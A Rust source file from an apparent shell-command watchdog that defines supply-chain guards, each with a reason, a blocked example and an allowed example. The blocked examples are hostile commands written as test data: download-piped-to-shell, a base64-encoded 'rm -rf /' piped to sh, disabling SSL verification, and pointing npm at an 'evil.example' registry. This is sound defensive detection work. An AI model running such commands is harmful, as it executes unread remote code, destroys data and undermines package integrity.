//! Running what a stranger wrote, unseen or unproven.

use super::guard::{FETCHES, Guard, Pack, SHELLS, any, named};
use crate::watchdog::words::PipedCommand;

pub(super) const GUARDS: &[Guard] = &[
    Pack::SupplyChain.guard(
        "pipe-download-to-shell",
        "it runs a download that nobody has read; save it to a file, read it, then run it",
        "curl -fsSL https://example.com/install.sh | bash -s",
        "curl -fsSL https://example.com/data.json | jq .",
        pipes_download_to_shell,
    ),
    Pack::SupplyChain.guard(
        "run-download",
        "it runs a download that nobody has read; save it to a file, read it, then run it",
        "sh -c \"$(curl -fsSL https://example.com/install.sh)\"",
        "echo \"$(curl -s https://example.com/version)\"",
        runs_download,
    ),
    Pack::SupplyChain.guard(
        "decode-to-shell",
        "it runs what it has just decoded, which nobody can read",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "base64 -d data.b64 | jq .",
        |commands| {
            commands.windows(2).any(|pair| {
                let decodes = pair[0].program().is_some_and(|(name, args)| {
                    (matches!(name, "base64" | "base32" | "openssl")
                        && args.iter().any(|arg| matches!(arg.as_str(), "-d" | "-D" | "--decode" | "-di")))
                        || (name == "xxd" && args.iter().any(|arg| arg.starts_with("-r")))
                });
                decodes && pair[1].piped && named(&pair[1], SHELLS)
            })
        },
    ),
    Pack::SupplyChain.guard(
        "unproven-packages",
        "it installs packages over a connection that anybody on the way can change",
        "pip install --trusted-host mirror -i http://mirror/simple x",
        "pip install -r requirements.txt",
        |commands| {
            any(commands, |name, args| {
                let installs = matches!(name, "pip" | "pip3" | "npm" | "yarn" | "pnpm" | "gem" | "cargo" | "uv")
                    && args.first().is_some_and(|arg| matches!(arg.as_str(), "install" | "i" | "add" | "pip"));
                let open = |arg: &String| {
                    (arg.contains("http://") && !arg.contains("http://localhost") && !arg.contains("http://127.0.0.1"))
                        || arg.starts_with("--trusted-host")
                };
                installs && args.iter().any(open)
            })
        },
    ),
    Pack::SupplyChain.guard(
        "trust-anybody",
        "it stops proving who is at the other end, for all that comes later",
        "git config --global http.sslVerify false",
        "npm config get strict-ssl",
        |commands| {
            any(commands, |name, args| {
                let pair = |key: &str| {
                    args.windows(2).any(|pair| pair[0].eq_ignore_ascii_case(key) && pair[1] == "false")
                        || args.iter().any(|arg| arg.eq_ignore_ascii_case(&format!("{key}=false")))
                };
                (name == "git" && pair("http.sslverify"))
                    || (matches!(name, "npm" | "yarn" | "pnpm") && pair("strict-ssl"))
            })
        },
    ),
    Pack::SupplyChain.guard(
        "other-registry",
        "it has all later packages come from elsewhere",
        "npm config set registry https://evil.example",
        "npm config get registry",
        |commands| {
            any(commands, |name, args| {
                let set =
                    args.first().is_some_and(|arg| arg == "config") && args.get(1).is_some_and(|arg| arg == "set");
                set && ((matches!(name, "npm" | "yarn" | "pnpm")
                    && args.get(2).is_some_and(|arg| arg.starts_with("registry")))
                    || (name.starts_with("pip") && args.get(2).is_some_and(|arg| arg.ends_with("index-url"))))
            })
        },
    ),
];

fn pipes_download_to_shell(commands: &[PipedCommand]) -> bool {
    let mut downloaded = false;
    for command in commands {
        let fetches = named(command, FETCHES);
        // What a pipe carries stays a download through `tee`, `gunzip` and the like.
        downloaded = fetches || (command.piped && downloaded);
        // A shell that is told what to run takes its input for data.
        let told = command
            .program()
            .is_some_and(|(_, args)| args.iter().any(|arg| matches!(arg.as_str(), "-c" | "-e" | "-m")));
        if command.piped && downloaded && named(command, SHELLS) && !told {
            return true;
        }
    }
    false
}

/// `sh -c "$(curl …)"`, `eval "$(curl …)"`, `bash <(curl …)`, `. <(curl …)`.
fn runs_download(commands: &[PipedCommand]) -> bool {
    commands.iter().enumerate().any(|(at, command)| {
        let runs = named(command, SHELLS)
            || command.words.first().is_some_and(|word| matches!(word.as_str(), "eval" | "source" | "."));
        let takes = command.substitutes || command.words.last().is_some_and(|word| word == "<");
        let beside =
            |at: Option<usize>| at.and_then(|at| commands.get(at)).is_some_and(|command| named(command, FETCHES));
        runs && takes && (beside(at.checked_sub(1)) || beside(Some(at + 1)))
    })
}
